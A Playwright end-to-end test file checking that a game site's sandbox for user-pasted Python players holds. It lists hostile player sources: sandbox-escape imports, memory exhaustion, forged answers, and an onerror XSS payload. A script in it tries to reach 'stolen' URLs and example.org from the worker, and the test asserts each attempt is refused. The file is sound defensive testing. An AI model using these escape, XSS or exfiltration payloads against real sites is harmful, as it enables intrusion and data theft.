"""Somebody's own player in the page: it plays and is measured; a hostile one reaches nothing, and the page lives."""

import json
import re
from pathlib import Path
from time import monotonic

import pytest
from playwright.sync_api import Page, Worker, expect

from building.serve import SiteHandler, SiteServer
from tests.e2e.axe import violations
from tests.e2e.conftest import Warm, tried
from tests.e2e.player import Player, open_site, stored
from tests.e2e.test_start import ON_THE_PAGE

PLAYERS = (Path(__file__).parents[2] / "nines" / "arena" / "PLAYERS.md").read_text("utf-8")
GREEDY = re.search(r"```python\n(.*?)```", PLAYERS, re.DOTALL)
assert GREEDY
PEEK, SETS, PLAY = "Test it: does it peek?", "Let it play 20 sets", "Play against it"
THINK = "\n\ndef think(view, budget, stream):\n    return GAMES[view.game].legal_moves(view)[0]\n"
IMPORTS = "from nines.games import GAMES\nimport nines.arena.lines.pasted as pasted\n"
LONG = "    class Move:\n        def __str__(self): return 'x' * 2_000_000\n    return Move()\n"

ATTACKS = (
    ("import js\njs.document.body", "Your player stopped with an error.", "AttributeError: document"),
    ("from js import parent, top, localStorage", "Your player stopped with an error.", "ImportError"),
    ("from pyodide.code import run_js\nrun_js('self')", "Your player stopped with an error.", "ImportError"),
    ("import pyodide_js\npyodide_js.constructor.constructor('return 1')()", "Your player stopped with an error.",
     "EvalError"),
    ("held = []\nwhile True:\n    held.append(bytearray(10_000_000))", "Your player stopped with an error.",
     "MemoryError"),
    ("raise SystemExit", "Your player stopped with an error.", "SystemExit"),
    (f"{IMPORTS}\ndef think(view, budget, stream):\n{LONG}", "Your player wrote a line that is too long.", ""),
    (f"{IMPORTS}pasted.answered = lambda *_: (_[1], '{{\"turn\": 99, \"move\": \"keep\"}}'){THINK}",
     "Your player answered a question that nobody asked.", ""),
    (f"{IMPORTS}pasted.answered = lambda *_: (_[1], '[' * 100_000){THINK}",
     "Your player wrote a line that isn’t an answer.", ""),
    (f"{IMPORTS}pasted.told = lambda _: '<img src=x onerror=alert(1)>'\nraise ValueError",
     "Your player stopped with an error.", "<img src=x onerror=alert(1)>"),
    (f"{IMPORTS}from nines.core.moves import Move\n\ndef think(view, budget, stream):\n    return Move.parse('bid 9D')",
     "Your player made a move that isn’t legal.", ""),
)  # fmt: skip
"""What a hostile file says, why it loses, and what Python says of it."""
DIFFERENT = (0, 3, 7, 9)
"""The attacks that lose in ways of their own: by what is missing or forbidden, and by what is said of its answer. That
a move has to be legal is tried outside (tests/arena/test_lines.py)."""

REACH = """async (site) => {
    const refused = async (what) => { try { return String(await what()) } catch (fault) { return "refused" } };
    const answers = (request) => new Promise((done, fail) => { request.onsuccess = done; request.onerror = fail; });
    const closed = (socket) => new Promise((done, fail) => { socket.onopen = done; socket.onerror = fail; });
    const within = (url) => new Promise((done, fail) => {
        const inner = new Worker(URL.createObjectURL(new Blob([
            `fetch("${url}").then(() => postMessage("reached"), () => postMessage("refused"))`])));
        inner.onmessage = ({ data }) => (data === "refused" ? fail() : done(data));
    });
    const tries = {
        fetch: () => fetch(`${site}stolen-fetch`),
        elsewhere: () => fetch("https://example.org/stolen", { mode: "no-cors" }),
        module: () => import(`${site}stolen.js`),
        script: () => importScripts(`${site}stolen-script.js`),
        socket: () => closed(new WebSocket(site.replace("http", "ws"))),
        transport: () => new WebTransport("https://example.org/").ready,
        events: () => closed(new EventSource(`${site}stolen-events`)),
        worker: () => within(`${site}stolen-worker`),
        database: () => answers(indexedDB.open("nines")),
        caches: () => caches.keys(),
        files: () => navigator.storage.getDirectory(),
        text: () => eval("1"),
    };
    const found = {};
    for (const [name, what] of Object.entries(tries)) found[name] = await refused(what);
    const names = ["document", "window", "parent", "top", "opener", "localStorage", "sessionStorage", "open",
        "RTCPeerConnection"];
    return [self.origin, found, names.filter((name) => name in self), "sendBeacon" in navigator];
}"""


HURRY = "import web.browser.own; web.browser.own.A_MOVE = 1.0"
"""Has the page wait less long for somebody who never answers: a loop without end keeps a processor busy meanwhile."""
RUN = "() => document.querySelector('.own-tries').dataset.run"
"""Which run of the player it is whose outcome is shown."""


def come_to(page: Page, button: str, source: str = "") -> str:
    """What is said once the player has done what a button says."""
    if source:
        page.get_by_role("textbox", name="Your player, in Python").fill(source)
    before = page.evaluate(RUN)
    page.get_by_role("button", name=button).click()
    page.wait_for_function(f"before => ({RUN})() !== before", arg=before)  # it is taken in once the file is saved
    expect(page.get_by_role("button", name="Stop")).to_have_count(0, timeout=120_000)
    return page.get_by_role("status").last.inner_text()


def expect_nobody(page: Page) -> None:
    """Wait until no player of anybody's runs."""
    until = monotonic() + 30
    while any(worker.url.startswith("blob:") for worker in page.workers):
        assert monotonic() < until, "a player still runs"
        page.evaluate("() => nines.turn()")


REFUSED = r"^console: .*(stolen|example\.org|wss?://|Content Security Policy)"
"""A line on the console about what was tried in vain."""


def guest(page: Page) -> Worker:
    """The worker in which the player runs."""
    (found,) = [worker for worker in page.workers if worker.url.startswith("blob:null/")]
    return found


def test_the_player_of_the_manual_plays_and_is_measured(page: Page) -> None:
    open_site(page, "#/fairness?speed=instant")
    page.get_by_role("link", name="Your own player").click()
    expect_nobody(page)
    assert GREEDY
    found = violations(page)
    said = come_to(page, PEEK, GREEDY[1])
    assert "it can’t peek. Your player’s move never changed." in said and re.search(r"caught in ([89]|10) of 10", said)
    said = come_to(page, SETS)
    points = r"your player scored \S+ points a deal, give or take [\d.]+\. Measured in 20 deals"
    assert re.search(points, said)
    found += violations(page)
    assert not found, "\n".join(found)
    expect_nobody(page)

    page.get_by_role("button", name=PLAY).click()
    expect(page.get_by_text("Your own player, Simple rules")).to_be_visible()
    Player(page, "own").play(1)  # a deal may be decided, and over, a few moves later
    record = json.loads(next(text for key, text in stored(page).items() if key.startswith("nines:match:")))
    assert guest(page) and "bot:own" in json.dumps(record)
    page.reload()
    expect(page.get_by_text("Your own player, Simple rules")).to_be_visible()
    expect_nobody(page)


def test_a_hostile_player_reaches_nothing_and_loses(
    page: Page, warm: Warm, server: SiteServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []
    find = SiteHandler.file_at
    monkeypatch.setattr(SiteHandler, "file_at", lambda self, path: (asked.append(path), find(self, path))[1])
    open_site(page, "#/player/le-neuf")
    before = stored(page)
    for source, why, python in tried([ATTACKS[at] for at in DIFFERENT], [*ATTACKS]):
        said = come_to(page, PEEK, source)
        assert why in said and python in said, (source, said)
    assert page.locator("#app img").count() == 0

    # Whatever its Python may reach of JavaScript, the worker's own origin and policy are the wall.
    page.get_by_role("textbox", name="Your player, in Python").fill(f"{IMPORTS}{THINK}")
    page.get_by_role("button", name=PLAY).click()
    expect(page.get_by_text("Your own player, Simple rules")).to_be_visible()
    origin, tries, there, beacon = guest(page).evaluate(REACH, server.address)
    assert origin == "null" and set(tries.values()) == {"refused"}, tries
    assert not there and not beacon
    page.evaluate("() => fetch('./blank.html', { cache: 'no-store' })")
    assert [path for path in asked if "blank" in path] and not [path for path in asked if "stolen" in path]

    page.goto("./#/player/le-neuf")
    page.get_by_role("textbox", name="Your player, in Python").fill("while True:\n    pass\n")
    page.get_by_role("button", name=SETS).click()
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    page.get_by_role("combobox", name="Against").select_option("club")  # the page answers meanwhile
    page.evaluate(ON_THE_PAGE, HURRY)
    assert "Twice, your player gave no answer within five seconds." in come_to(
        page, PEEK, f"{IMPORTS}\ndef think(view, budget, stream):\n    while True:\n        pass\n"
    )
    expect_nobody(page)
    kept = {key: text for key, text in stored(page).items() if not key.startswith(("nines:own", "nines:match"))}
    assert kept.keys() - before.keys() <= {"nines:seals", "nines:settings"}, kept.keys() - before.keys()
    faults = [fault for fault in warm.faults if not re.search(REFUSED, fault)]
    warm.faults.clear()
    assert not faults, "\n".join(faults)
